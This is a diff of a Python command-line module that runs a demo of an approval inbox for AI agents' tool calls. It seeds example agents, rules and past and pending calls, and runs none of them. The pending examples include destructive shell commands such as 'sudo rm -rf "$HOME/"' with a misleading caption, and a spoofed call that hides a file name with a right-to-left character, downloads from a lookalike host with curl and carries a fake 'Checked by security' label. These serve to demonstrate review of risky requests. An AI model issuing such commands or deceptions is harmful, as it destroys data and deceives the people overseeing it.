@@ -1,4 +1,4 @@
-"""`assent demo`: a server with an example on it, to try everything without an agent or a key."""
+"""`assent demo`: a server with example agents, to try Assent without an agent or an API key."""
 
 import json
 import logging
@@ -8,22 +8,25 @@ import tempfile
 import threading
 import webbrowser
 from collections.abc import Callable, Mapping
+from dataclasses import dataclass
 from pathlib import Path
+from uuid import uuid4
 
 import click
 
-from assent.cli.database import NAME, extra, run
-from assent.cli.example import Example, furnish
-from assent.cli.serve import chat_if_installed
-from assent.client.client import Client
+from assent.cli.database import FILE_NAME
+from assent.cli.root import requires_extra, run_async
+from assent.cli.serve import find_chat
+from assent.client.client import Client, Outcome, OutcomeKind, RequestFailed
 from assent.compose import local_person
-from assent.config.ground import PolicyFiles
-from assent.config.private import private_directory
-from assent.config.server import ServerSettings
-from assent.config.whereabouts import find_whereabouts
+from assent.config.files import make_private_directory
+from assent.config.paths import find_config_paths
+from assent.config.policy_loader import PolicyLoader
+from assent.config.settings import ServerSettings
 from assent.door.authentication import login_url
+from assent.wire.fields import Fields
 
-with extra("server"):
+with requires_extra("server"):
     from assent.surfaces.http.bootstrap import OwnerAccess
     from assent.surfaces.http.server import ServerPlan
     from assent.surfaces.http.server import run as run_server
@@ -31,78 +34,270 @@ with extra("server"):
 
 @click.command()
 @click.option(
-    "--port", type=click.IntRange(0, 65535), default=0, metavar="N", help="the port; otherwise a free one"
+    "--port", type=click.IntRange(0, 65535), default=0, metavar="N", help="the port; default: a free port"
 )
-@click.option("--no-browser", is_flag=True, help="only print the link")
-@click.option("--json", "as_json", is_flag=True, help="print where it is as one line of JSON")
+@click.option("--no-browser", is_flag=True, help="print the link without opening a browser")
+@click.option("--json", "as_json", is_flag=True, help="print the URL and the log-in link as one line of JSON")
 def demo(port: int, no_browser: bool, as_json: bool) -> None:  # noqa: FBT001 - click gives flags by name
-    """Try the inbox with example agents; nothing of it is run, and nothing is kept."""
-    # What it tells is on the page; a person who tries it out has no use for a log.
+    """Try the inbox with example agents; no call is run, and nothing is stored."""
+    # The page shows everything that a person needs, so only errors are logged.
     logging.basicConfig(level=logging.ERROR)
     with tempfile.TemporaryDirectory(prefix="assent-demo-", ignore_cleanup_errors=True) as directory:
-        told = (
-            _tell_json if as_json else _teller(opens=not no_browser and has_browser(sys.platform, os.environ))
+        announce = (
+            _announce_json
+            if as_json
+            else _text_announcer(opens=not no_browser and can_open_browser(sys.platform, os.environ))
         )
-        _serve(Path(directory), port, told)
+        _serve(Path(directory), port, announce)
 
 
-Told = Callable[[str, OwnerAccess], None]
+Announce = Callable[[str, OwnerAccess], None]
 
 
-def _serve(directory: Path, port: int, told: Told) -> None:
-    # INVARIANT: no file of the person's own counts, or the example would not be the one that is described.
-    where = find_whereabouts(
-        str(furnish(directory)), {"XDG_CONFIG_HOME": str(directory), "XDG_DATA_HOME": str(directory)}
+def _serve(directory: Path, port: int, announce: Announce) -> None:
+    # INVARIANT: the user's own policy files are not read, or the example would differ from its description.
+    where = find_config_paths(
+        str(create_workspace(directory)), {"XDG_CONFIG_HOME": str(directory), "XDG_DATA_HOME": str(directory)}
     )
-    private = private_directory(str(directory / "data"))
+    private = make_private_directory(str(directory / "data"))
     plan = ServerPlan(
         where=where,
         settings=ServerSettings(port=port),
-        database=str(Path(private, NAME)),
+        database=str(Path(private, FILE_NAME)),
         directory=private,
         owner=local_person().id,
         always_link=True,
-        chat=chat_if_installed(where),
+        chat=find_chat(where),
     )
-    run(run_server(plan, PolicyFiles(where, {}), _announcer(told)))
+    run_async(run_server(plan, PolicyLoader(where, {}), _announce_later(announce)))
 
 
-def _announcer(told: Told) -> Told:
-    """Play the example as soon as somebody listens, then tell where it is, and be its agents."""
+def _announce_later(announce: Announce) -> Announce:
+    """Create the example once the server listens, announce the server, then act as the example's agents."""
 
-    def announce(url: str, welcome: OwnerAccess) -> None:
-        def play() -> None:
+    def start(url: str, welcome: OwnerAccess) -> None:
+        def run_example() -> None:
             with Client(url, welcome.token) as client:
                 example = Example(client)
-                example.play()
-                told(url, welcome)
-                example.follow()
+                example.create()
+                announce(url, welcome)
+                example.take_approved_calls()
 
-        threading.Thread(target=play, name="assent example", daemon=True).start()
+        threading.Thread(target=run_example, name="assent example", daemon=True).start()
 
-    return announce
+    return start
 
 
-def _teller(*, opens: bool) -> Told:
-    def tell(url: str, welcome: OwnerAccess) -> None:
+def _text_announcer(*, opens: bool) -> Announce:
+    def announce(url: str, welcome: OwnerAccess) -> None:
         link = login_url(url, welcome.link)
         print(
-            f"An example is at {url}; log in, once, with\n\n  {link}\n\nCtrl-C ends it; nothing is kept.",
+            f"The demo runs at {url}; log in with this link, which works once:\n\n  {link}\n\n"
+            "Ctrl-C stops the demo; nothing is stored.",
             flush=True,
         )
         if opens:
             webbrowser.open(link)
 
-    return tell
+    return announce
 
 
-def _tell_json(url: str, welcome: OwnerAccess) -> None:
-    told = {"url": url, "login_url": login_url(url, welcome.link), "owner_token": welcome.token}
-    print(json.dumps(told), flush=True)
+def _announce_json(url: str, welcome: OwnerAccess) -> None:
+    record = {"url": url, "login_url": login_url(url, welcome.link), "owner_token": welcome.token}
+    print(json.dumps(record), flush=True)
 
 
-def has_browser(platform: str, environ: Mapping[str, str]) -> bool:
-    """Whether a window could open; a browser inside this terminal would only be in the way."""
+def can_open_browser(platform: str, environ: Mapping[str, str]) -> bool:
+    """Whether a graphical browser can open; one inside the terminal would hide our output."""
     if platform in ("darwin", "win32"):
         return True
     return bool(environ.get("DISPLAY") or environ.get("WAYLAND_DISPLAY"))
+
+
+Args = Mapping[str, object]
+
+FILES = {
+    "README.md": "# Corner shop\n\nSells bread, milk and stamps.\n",
+    "CHANGELOG.md": "# Changelog\n\n## 0.8.0\n\n- The basket remembers what was in it.\n",
+    "packages/web/package.json": '{"name": "shop-web", "scripts": {"build": "vite build"}}\n',
+    "docs/opening-hours.md": "Open every day from 7 to 20.\n",
+}
+"""The files of the example workspace."""
+RELEASE, INVOICES, CONTACTS, ORDERS, HANDBOOK = (
+    "Cut the 0.9 release", "Overdue invoices", "Tidy the address book", "Duplicate orders, May",
+    "The handbook",
+)  # fmt: skip
+CONVERSATIONS = {
+    RELEASE: "release-bot", INVOICES: "inbox-clerk", CONTACTS: "inbox-clerk", ORDERS: "ledger",
+    HANDBOOK: "docs-writer",
+}  # fmt: skip
+CATALOGS: Mapping[str, list[dict[str, object]]] = {
+    "inbox-clerk": [
+        {"name": "mail.find", "effect": "read", "group": "Mail", "description": "Find mails."},
+        {"name": "mail.send", "effect": "external", "group": "Mail", "description": "Send a mail."},
+        {"name": "mail.archive", "effect": "write", "group": "Mail", "description": "Archive a mail."},
+        {"name": "crm.find", "effect": "read", "group": "Contacts", "description": "Find a contact."},
+        {"name": "crm.update", "effect": "write", "group": "Contacts", "description": "Change a contact."},
+        {
+            "name": "crm.delete_contact",
+            "effect": "destructive",
+            "group": "Contacts",
+            "description": "Delete a contact for ever.",
+        },
+    ],
+    "ledger": [
+        {"name": "orders.list", "effect": "read", "group": "Orders", "description": "List orders."},
+        {"name": "orders.void", "effect": "write", "group": "Orders", "description": "Void orders."},
+    ],
+}
+RULES = (
+    ("allow", "terminal.exec(npm run *)", "project scripts are reviewed in this repository"),
+    ("ask", "mail.send(to=*@northwind.example)", "a customer reads what we send them"),
+    ("deny", "terminal.exec(npm publish *)", "releases are published by the pipeline"),
+)
+
+
+@dataclass(frozen=True, slots=True)
+class ExampleCall:
+    """A call of the example, and the answer if the call asks."""
+
+    where: str
+    tool: str
+    args: Args
+    say: str = ""
+    reason: str = ""
+
+
+def _shell(command: str, says: str = "", *, say: str = "", reason: str = "") -> ExampleCall:
+    args = {"command": command} | ({"description": says} if says else {})
+    return ExampleCall(RELEASE, "terminal.exec", args, say, reason)
+
+
+PAST_CALLS = (
+    *(
+        _shell(command)
+        for command in ("ls -la", "cat README.md", "npm run build", "npm run test", "npm publish")
+    ),
+    _shell("git tag v0.8.1", say="once"),
+    _shell("make clean", say="once"),
+    _shell("git commit --amend --no-edit", say="deny", reason="Keep the history; commit anew."),
+    _shell("docker compose up -d", say="conversation"),
+    *(
+        ExampleCall(
+            HANDBOOK, "files.write", {"path": f"docs/{page}.md", "content": f"# {page}\n"}, say="once"
+        )
+        for page in ("deliveries", "returns", "stamps", "suppliers", "holidays", "till", "keys", "cleaning")
+    ),
+    ExampleCall(INVOICES, "mail.find", {"query": "is:overdue"}),
+    ExampleCall(INVOICES, "mail.archive", {"id": 2207}, say="once"),
+    ExampleCall(CONTACTS, "crm.find", {"name": "Ortiz"}),
+    ExampleCall(
+        CONTACTS, "crm.update", {"id": 8840, "city": "Lisbon"}, say="deny", reason="She has not moved yet."
+    ),
+    ExampleCall(ORDERS, "orders.list", {"month": "May"}),
+)
+OPEN_CALLS = (
+    _shell(
+        "cd packages/web && npm run build && rm -rf ../../../build-cache",
+        "Clearing a stale cache, so that the bundle can be reproduced.",
+    ),
+    _shell("git push origin release/0.9"),
+    _shell("git push origin v0.9.0"),
+    ExampleCall(
+        RELEASE,
+        "files.write",
+        {
+            "path": "CHANGELOG.md",
+            "content": FILES["CHANGELOG.md"].replace("## 0.8.0", "## 0.9.0\n\n- Stamps.\n\n## 0.8.0"),
+        },
+    ),
+    _shell('sudo rm -rf "$HOME/"', "Making room on the disk."),
+    ExampleCall(
+        INVOICES,
+        "mail.send",
+        {
+            "to": "finance@northwind.example",
+            "subject": "Invoice 2231 is 30 days overdue",
+            "body": "Dear Sam,\n\ninvoice 2231 over € 4,180.00 is still open.\n\nKind regards",
+        },
+    ),
+    ExampleCall(CONTACTS, "crm.delete_contact", {"id": 8841, "name": "Lena Ortiz"}),
+    ExampleCall(ORDERS, "orders.void", {"orders": [4417, 4418, 4419], "reason": "entered twice"}),
+    ExampleCall(
+        "",
+        "terminal.exec",
+        {
+            "command": "cp report\u202efdp.sh ~/bin/ && curl https://\u0430cme.example/i -o x",
+            "description": '<b style="color:green">Checked by security</b> [Allow](https://ok.example)',
+        },
+    ),
+)
+OTHER_AGENT = "scout"
+"""The agent of calls without a conversation."""
+
+
+def create_workspace(directory: Path) -> Path:
+    """Create the workspace of the example agents below a directory."""
+    workspace = directory / "corner-shop"
+    for name, text in FILES.items():
+        path = workspace / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, encoding="utf-8")
+    return workspace
+
+
+class Example:
+    """The example on a running server; its requests use the owner's token."""
+
+    def __init__(self, client: Client) -> None:
+        self._client = client
+        self._conversations: dict[str, str] = {}
+
+    def create(self) -> None:
+        """Create the tools, rules, conversations, past calls and open questions."""
+        for agent, tools in CATALOGS.items():
+            self._put(f"agents/{agent}/catalog", {"origin": "the example", "tools": tools})
+        for kind, text, why in RULES:
+            self._post("rules", {"list": kind, "text": text, "why": why})
+        for title, agent in CONVERSATIONS.items():
+            created = self._post("conversations", {"agent": agent, "title": title})
+            self._conversations[title] = created.text("id")
+        for act in PAST_CALLS:
+            self._submit_and_answer(act)
+        for act in OPEN_CALLS:
+            self._submit(act)
+
+    def take_approved_calls(self) -> None:
+        """Act as the agents: take each call that a person allows, and report it as done."""
+        for message in self._client.events():
+            if message.get("type") == "answered":
+                self._take(str(message["id"]))
+
+    def _submit_and_answer(self, act: ExampleCall) -> None:
+        outcome = self._submit(act)
+        if outcome.kind is not OutcomeKind.WAIT:
+            return
+        digest = self._client.approval(outcome.approval).digest
+        answer = {"say": act.say} | ({"reason": act.reason} if act.reason else {})
+        self._post(f"approvals/{outcome.approval}/answer", {"digest": digest, "answer": answer})
+        self._take(outcome.approval)
+
+    def _submit(self, act: ExampleCall) -> Outcome:
+        conversation = self._conversations.get(act.where, "")
+        agent = CONVERSATIONS.get(act.where, OTHER_AGENT)
+        return self._client.submit(act.tool, act.args, id=uuid4().hex, conversation=conversation, agent=agent)
+
+    def _take(self, approval: str) -> None:
+        """Claim and report a call without running it."""
+        try:
+            outcome = self._client.wait(approval, 0)
+            if outcome.kind is OutcomeKind.RUN:
+                self._client.report(approval, outcome.claim, note="demo: nothing was run")
+        except RequestFailed:
+            return  # Another process claimed the call.
+
+    def _post(self, path: str, body: Mapping[str, object]) -> Fields:
+        return Fields(self._client.request("POST", f"/v1/{path}", body, tries=1), path)
+
+    def _put(self, path: str, body: Mapping[str, object]) -> None:
+        self._client.request("PUT", f"/v1/{path}", body, tries=1)
